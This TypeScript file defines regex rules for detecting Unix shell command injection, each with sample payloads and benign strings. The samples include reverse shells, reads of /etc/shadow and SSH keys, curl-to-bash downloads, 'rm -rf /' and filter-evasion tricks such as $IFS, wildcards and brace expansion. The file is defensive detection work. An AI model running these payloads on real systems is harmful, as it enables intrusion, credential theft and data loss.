// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are payloads and benign values, not placeholders
/**
 * The UNIXCMD family: Unix shell command injection. A shell word such as `cat` or `sleep` is
 * also an English word, so each rule asks for the shell syntax around it: a command separator
 * (`;`, `|`, `&`, a line break, `$(`, a backtick glued to a word) before the command and option,
 * path or redirection syntax after it ("Tom & Jerry; cat food" is prose, "x; cat /etc/passwd" is not).
 */
import type { ValueRule } from "../types.ts";
import { NAME_START, SP0, SP1, WS, WS0, WS1 } from "./injection-fragments.ts";

const BT = "`";
/**
 * What ends one shell command and starts the next: `;`, `|`, `||`, `&`, `&&`, a line break, `$(`,
 * and a backtick glued to a word (`` x`id` ``). A backtick after a space is Markdown inline code
 * ("run `ls -la`", "output of `uname -a`"), which UNIXCMD_BACKTICK catches at Strict.
 */
const SEPARATOR = `(?:[;|&\\n\\r]|\\$\\(|[a-z0-9=]${BT})`;
/** An optional /bin/, /usr/bin/, /usr/local/sbin/... before a command name. */
const BIN_DIR = "(?:/(?:usr/)?(?:local/)?s?bin/)?";
/** Commands whose name is also a word: caught only with argument syntax after them. */
const COMMAND =
  "(?:cat|tac|nl|head|tail|grep|egrep|fgrep|ls|id|ps|env|echo|printf|sleep|ping|nslookup|dig|curl|wget|nc|ncat|netcat|socat|telnet|bash|sh|zsh|dash|ksh|csh|tcsh|python[0-9\\.]*|perl|ruby|php|node|lua|awk|gawk|sed|xargs|base64|xxd|od|strings|chmod|chown|rm|mv|cp|touch|mkdir|tar|kill|killall|pkill|crontab|sudo|busybox|exec|eval|nohup|timeout|tftp|scp|ssh|dd|mkfifo|uname|whoami|ifconfig|netstat|printenv|hostname|systemctl|useradd|passwd)";
/** Commands that need no argument to be recognised: nobody writes "; whoami" in prose. */
const BARE_COMMAND = "(?:whoami|uname|ifconfig|netstat|printenv|pwd|ls)";
/** What follows a command: an option, a path, a variable, a quote, a redirection or a pipe. */
// a pipe or & after a space is a Markdown table cell ("| Python |") or prose ("cat & dog")
const ARGUMENTS = `(?:${SP1}(?:-{1,2}[a-z0-9]|[/~$'"<>]|\\.{1,2}/|[0-9]+${SP0}(?:$|[;|&${BT}#)]))|${SP0}[<>]|\\||\\$\\{?IFS)`;
/** The end of a bare command: the value's end, a separator, a comment or a closing substitution. */
const COMMAND_END = `(?:${SP0}(?:$|[;&${BT}#)<>\\n\\r])|\\|)`;
/** Commands that reach other hosts, and a host or URL argument (x.example, 10.0.0.1, http://...). */
const NETWORK_COMMAND = "(?:curl|wget|nc|ncat|netcat|ping|nslookup|dig|telnet|ssh|scp|tftp)";
const HOST_ARGUMENT = `${SP1}(?:[a-z][a-z0-9+\\-\\.]*://|[a-z0-9\\-]+(?:\\.[a-z0-9\\-]+)+)`;
/** A command the shell recognises from its syntax alone. */
const SHELL_COMMAND =
  `${BIN_DIR}(?:${COMMAND}${ARGUMENTS}|${BARE_COMMAND}${COMMAND_END}|${NETWORK_COMMAND}${HOST_ARGUMENT}` +
  `|(?:echo|printf)${SP1}[^;|&\\n<>]*>{1,2}${SP0}[/~\\.$])`;
/** Commands that read a file, and where secrets live. */
const READER = "(?:cat|tac|nl|head|tail|more|less|grep|strings|base64|xxd|od|sort|uniq|awk|sed|vi|vim|view)";
const SECRET_PLACE = "(?:/etc/|/proc/|/root/|/home/|/var/|~/|\\.\\./|\\$\\{?home)";

/** Unix command injection rules. */
export const UNIXCMD_RULES: readonly ValueRule[] = [
  // ---------------------------------------------------------------------------------------- Basic
  {
    key: "UNIXCMD_READ_SECRET",
    family: "UNIXCMD",
    level: "Basic",
    regex: `${SEPARATOR}${WS0}${BIN_DIR}${READER}(?:${SP1}-[a-z0-9]+(?:${SP1}[0-9]+)?)*(?:${SP1}|${SP0}<${SP0}|\\$\\{?IFS\\}?)${SECRET_PLACE}`,
    description: "A separator, then a command that reads a file in /etc, /proc, a home directory or above",
    examples: [
      ";cat /etc/passwd",
      "x | head -n 5 /etc/shadow",
      "1&&cat</etc/passwd",
      "a`cat /proc/self/environ`",
      "$(cat ~/.ssh/id_rsa)",
      "x;cat${IFS}/etc/passwd",
      "x\n/bin/cat /etc/hosts",
    ],
    benign: [
      "Tom & Jerry; cat food",
      "cat /etc/passwd",
      "I like cats; cat videos are fun",
      "x | head office",
    ],
  },
  {
    key: "UNIXCMD_SHELL_BINARY",
    family: "UNIXCMD",
    level: "Basic",
    regex: `${SEPARATOR}${WS0}/(?:usr/)?(?:local/)?s?bin/[a-z]|/(?:usr/)?(?:local/)?s?bin/(?:ba|da|z|k|c|tc)?sh${SP1}-[a-z]*[ci]`,
    description: "A program called by its absolute path after a separator, or a shell started with -c or -i",
    examples: [
      ";/bin/id",
      "x|/usr/bin/whoami",
      "$(/bin/ls)",
      "/bin/sh -c id",
      "/bin/bash -i",
      "&& /usr/local/bin/node x.js",
    ],
    benign: ["my shell is /bin/bash", "see /usr/bin/env python", "a;b/bin/c", "/bin/shopping"],
  },
  {
    key: "UNIXCMD_REVERSE_SHELL",
    family: "UNIXCMD",
    level: "Basic",
    regex:
      `/dev/(?:tcp|udp)/[^/ ]+/[0-9]` +
      `|${NAME_START}n(?:c|cat|etcat)${SP1}(?:[^;|&\\n]*${SP1})?-[a-z]*e${SP1}` +
      `|mkfifo${SP1}/tmp/|${NAME_START}(?:ba|da|z)?sh${SP1}-i${SP0}(?:[<>]|2>&1)` +
      `|socat${SP1}[^\\n]*exec:|[0-9]?<&${SP0}[0-9]{2,};`,
    description:
      "Reverse shells: /dev/tcp/host/port, nc -e, mkfifo in /tmp, sh -i with redirections, socat exec:",
    examples: [
      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
      ";nc -e /bin/sh 10.0.0.1 4444",
      "ncat 10.0.0.1 4444 -e /bin/bash",
      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
      "socat tcp:10.0.0.1:4444 exec:/bin/sh",
      "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444",
    ],
    benign: ["/dev/null", "nc is short for netcat", "sync -e", "funcs -e x", "dev/tcp is a device"],
  },
  {
    key: "UNIXCMD_IFS",
    family: "UNIXCMD",
    level: "Basic",
    regex: "\\$\\{IFS\\}|\\$IFS(?:\\$[0-9@*]|[^a-z0-9_]|$)",
    description: "$IFS or ${IFS}, the shell's field separator, used in place of spaces",
    examples: ["cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", "ls$IFS-la", "x${IFS}y"],
    benign: ["$IFSC code", "IFS rules", "a $ifs_value"],
  },
  {
    key: "UNIXCMD_SUBSTITUTION_PROBE",
    family: "UNIXCMD",
    level: "Basic",
    regex:
      // $(pwd), $(id -u), $(uname -m) and $(curl ...) are everyday shell in install instructions
      `(?:\\$\\(|[a-z0-9=]${BT})${WS0}(?:whoami${WS0}[)${BT}]|id${WS0}[)${BT}]|ifconfig|(?:sleep|ping|nslookup|dig)${WS1}[^)${BT}])`,
    description: "Command substitution ($(...) or backticks) of a command that reveals the host or waits",
    examples: [
      "$(whoami)",
      "x$(id)",
      "$(sleep 5)",
      "a`whoami`",
      "1`id`",
      "$(nslookup x.example)",
      "$( whoami )",
    ],
    benign: [
      "$(document).ready()",
      "$(this).hide()",
      "$('#id')",
      "$(identifier)",
      "Use `npm install` then run it",
      "Output of `uname -a`:",
      '-v "$(pwd)":/app',
      'sh -c "$(curl -fsSL https://example.com/install.sh)"',
      "--user $(id -u):$(id -g)",
      "docker-compose-$(uname -s)-$(uname -m)",
    ],
  },
  // ------------------------------------------------------------------------------------- Standard
  {
    key: "UNIXCMD_SEPARATOR_COMMAND",
    family: "UNIXCMD",
    level: "Standard",
    regex: `${SEPARATOR}${WS0}${SHELL_COMMAND}`,
    description: "A command separator, then a shell command with options, paths or redirections",
    examples: [
      "x; ls -la",
      "1|id -u",
      "a && wget http://x.example/s.sh",
      "q;sleep 5;",
      "127.0.0.1 | ping -c 3 x.example",
      "x\necho ok > /tmp/x",
      "a;whoami",
      "x || uname",
      "1;rm -rf /",
      "x;curl${IFS}x.example",
    ],
    benign: [
      "Tom & Jerry; a film",
      "Tom & Jerry; cat food",
      "cat food",
      "ls -la in the docs",
      "name;id;email",
      "The cat & the hat | echo chamber",
      "Cats & dogs; sleep well",
      "R&D; ps: see attached",
      "| Python | JSON |",
      "| ls | lists files |",
      "Tom & Jerry; cat & dog",
    ],
  },
  {
    key: "UNIXCMD_SUBSTITUTION",
    family: "UNIXCMD",
    level: "Standard",
    // bare $(cmd) only for id and env: $(RM) and $(CC) are Makefile variables
    regex: `\\$\\(${WS0}(?:${SHELL_COMMAND}|(?:id|env)${WS0}\\))|[a-z0-9=]${BT}${WS0}(?:${SHELL_COMMAND}|(?:id|env)${WS0}${BT})`,
    description:
      "Command substitution of a shell command: $(cmd ...), or backticks glued to a value (x`cmd`)",
    examples: [
      "$(ls -la)",
      "$(id)",
      "x$(echo hi > /tmp/x)",
      "1`id`",
      "name`sleep 5`",
      "a`nslookup x.example`",
    ],
    benign: [
      "run `ls -la` in the docs",
      "the `id` field",
      "$(document).on()",
      "(`echo`)",
      "**`ls -la`**",
      "command:`ls -la`",
      "use $(RM) in Makefile",
    ],
  },
  {
    key: "UNIXCMD_DOWNLOAD_EXECUTE",
    family: "UNIXCMD",
    level: "Standard",
    regex:
      `${NAME_START}(?:curl|wget|fetch)${SP1}[^|;&\\n]*\\|${WS0}(?:sudo${SP1})?(?:/[a-z/]*)?(?:ba|da|z|k)?sh(?:$|[^a-z0-9])` +
      `|${NAME_START}(?:curl|wget)${SP1}[^;|&\\n]*-(?:o|O|-output)${SP1}/(?:tmp|dev/shm|var/tmp)/` +
      `|chmod${SP1}(?:[+ugoa]*x|[0-7]{3,4})${SP1}/(?:tmp|dev/shm|var/tmp)/`,
    description: "A script downloaded and piped to a shell, or saved to /tmp and made executable",
    examples: [
      "curl -s http://x.example/s.sh | bash",
      "wget -qO- x.example/i|sh",
      "wget http://x.example/b -O /tmp/b",
      "chmod +x /tmp/b",
      "curl x.example/a | sudo sh",
    ],
    benign: [
      "curl up with a book | shelf",
      "wget is a downloader",
      "chmod your files",
      "curl -o out.txt x.example",
    ],
  },
  {
    key: "UNIXCMD_GLOB_EVASION",
    family: "UNIXCMD",
    level: "Standard",
    // a wildcard must stand inside a name (c?t, ??t), not end a sentence (/bin/ping?); ** is a
    // recursive glob in build configurations (src/**/*.ts), not an evasion
    regex: "/(?:[a-z]*\\?[a-z?]*|bin|usr|etc)/[a-z]*(?:\\?[a-z?]|\\*[a-z])",
    description: "A command or file written with wildcards to dodge filters (/???/c?t /e??/p?ss??)",
    examples: ["/???/c?t /e??/p?ss??", ";/bin/c?t /etc/passwd", "/usr/b?n/who?mi", "/e?c/sh?dow"],
    benign: [
      "https://www.example.com/search?q=cats&page=2",
      "/api/v1/items?*=1",
      "what?/who? / why?",
      "/a*b/c",
      "lib/internal/**/*.js",
      "how to remove the SUID bit from /bin/ping?",
    ],
  },
  {
    key: "UNIXCMD_BRACE_EXPANSION",
    family: "UNIXCMD",
    level: "Standard",
    // {cat,dog} is a set in prose and code; an option, path, variable or URL as the next word is not
    regex: `\\{${SP0}${BIN_DIR}${COMMAND}${SP0},${SP0}(?:-|/|~|\\$|\\.|[a-z]+://)`,
    description: "Brace expansion that builds a command without spaces ({cat,/etc/passwd}, {ls,-la})",
    examples: [
      ";{cat,/etc/passwd}",
      "{ls,-la,/}",
      "$({wget,http://x.example/a})",
      "{nc,-e,/bin/sh,x.example,4444}",
    ],
    benign: ["{cat,dog,bird}", "{id,name}", "{ls, lists files}", '{"cat": "/x"}'],
  },
  {
    key: "UNIXCMD_VARIABLE_SLICE",
    family: "UNIXCMD",
    level: "Standard",
    regex: "\\$\\{[a-z_][a-z0-9_]*:[ -]?-?[0-9]+(?::[0-9]+)?\\}",
    description: "A slice of a shell variable (${PATH:0:1} is /), used to build characters a filter blocks",
    examples: ["cat${PATH:0:1}etc${PATH:0:1}passwd", "${HOME:0:1}", "${LS_COLORS:10:1}", "${PWD: -1}"],
    benign: ["${name}", "${a:b}", "${count}:1", "style=${width}:10px"],
  },
  // --------------------------------------------------------------------------------------- Strict
  {
    key: "UNIXCMD_COMMAND_START",
    family: "UNIXCMD",
    level: "Strict",
    regex: `^${WS0}${SHELL_COMMAND}`,
    description: "A value that starts with a shell command and its arguments (ls -la, cat /etc/hosts)",
    examples: ["ls -la", "cat /etc/hosts", "id -u", "whoami", "ping -c 1 x.example"],
    benign: ["cat food", "lsd", "echo chamber", "idle"],
  },
  {
    key: "UNIXCMD_SEPARATOR_ANY_COMMAND",
    family: "UNIXCMD",
    level: "Strict",
    regex: `${SEPARATOR}${WS0}${BIN_DIR}(?:${COMMAND}|pwd)(?:${WS}|$)`,
    description: "A command separator, then any command name, with or without arguments (| id, ; ls)",
    examples: ["| id", "x; ls", "a && whoami", "name;id"],
    benign: ["Tom & Jerry", "a; identity"],
  },
  {
    key: "UNIXCMD_BACKTICK",
    family: "UNIXCMD",
    level: "Strict",
    regex: `${BT}${WS0}(?:${SHELL_COMMAND}|${COMMAND}${WS0}${BT})`,
    description: "A shell command in backticks, including Markdown inline code",
    examples: ["`id`", "run `ls -la` in the docs", "`cat /etc/hosts`"],
    benign: ["`npm install`", "`identifier`"],
  },
  {
    key: "UNIXCMD_SHELL_VARIABLE",
    family: "UNIXCMD",
    level: "Strict",
    regex: `\\$\\{?(?:ifs|path|home|shell|user|pwd|shlvl|hostname|ld_preload)(?:\\}|[^a-z0-9_]|$)`,
    description: "References to the shell's environment variables ($HOME, ${PATH}, $LD_PRELOAD)",
    examples: ["Set ${HOME} in your profile", "$PATH", "x;echo $USER"],
    benign: ["$homepage", "$5 for users"],
  },
];
